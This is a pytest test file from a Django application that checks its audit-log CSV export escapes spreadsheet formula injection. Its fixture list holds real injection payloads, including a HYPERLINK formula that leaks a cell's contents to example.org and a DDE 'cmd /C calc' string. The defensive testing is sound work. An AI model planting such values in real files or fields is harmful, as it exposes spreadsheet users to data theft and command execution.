"""The audit-log CSV export never hands a spreadsheet a formula (OWASP CSV injection):
record names, user names and details come from what users typed."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from auditlog.models import LogEntry
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse

from teilhabe.accounts.models import User
from teilhabe.accounts.roles import Role
from teilhabe.conftest import signed_in_client

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(client: Any) -> list[list[str]]:
    response = client.get(reverse("audit:export"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_hostile_cell_values_are_exported_as_text(users_by_role: dict[str, Any]) -> None:
    actor = User.objects.create(username="=1+2")  # a name straight from a directory sync
    person_type = ContentType.objects.get(app_label="casework", model="person")
    for value in HOSTILE:
        LogEntry.objects.create(
            content_type=person_type,
            object_pk="1",
            object_repr=value,
            action=LogEntry.Action.ACCESS,
            actor=actor,
            additional_data=value,  # a string, not a dict: written as it is
        )
    rows = _export(signed_in_client(users_by_role[Role.DATA_PROTECTION_OFFICER.value]))
    exported = [row for row in rows[1:] if row[1] == "'=1+2"]
    assert sorted(row[4] for row in exported) == sorted("'" + value for value in HOSTILE)
    assert sorted(row[5] for row in exported) == sorted("'" + value for value in HOSTILE)
    for row in exported:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
